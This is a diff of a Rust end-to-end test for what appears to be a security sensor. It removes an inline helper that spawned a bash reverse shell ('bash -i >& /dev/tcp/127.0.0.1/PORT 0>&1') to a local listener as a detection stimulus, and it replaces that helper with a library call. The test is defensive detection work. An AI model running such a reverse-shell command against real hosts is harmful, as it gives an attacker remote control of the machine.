@@ -3,13 +3,11 @@
 //! damaged files are reported by name and offset.
 
 use std::{
-    io::Write,
-    net::TcpListener,
     path::{Path, PathBuf},
     process::{Command, Output, Stdio},
 };
 
-use sensor_e2e::{Agent, Scratch, agent_bin, alert_of, marker, tomcat_reenact};
+use sensor_e2e::{Agent, ReverseShell, Scratch, agent_bin, alert_of, marker, tomcat_reenact};
 use serde_json::Value;
 
 fn traces_in(dir: &Path) -> Vec<PathBuf> {
@@ -47,21 +45,7 @@ fn comparable(mut line: Value) -> Value {
 }
 
 fn reverse_shell(tag: &str) {
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let port = listener.local_addr().unwrap().port();
-    let mut shell = Command::new("/bin/bash")
-        .args([
-            "-c",
-            &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1 # {tag}"),
-        ])
-        .stdin(Stdio::null())
-        .stdout(Stdio::null())
-        .stderr(Stdio::null())
-        .spawn()
-        .unwrap();
-    let (mut conn, _) = listener.accept().unwrap();
-    conn.write_all(b"exit\n").unwrap();
-    let _ = shell.wait();
+    ReverseShell::start(tag).exit();
 }
 
 #[test]
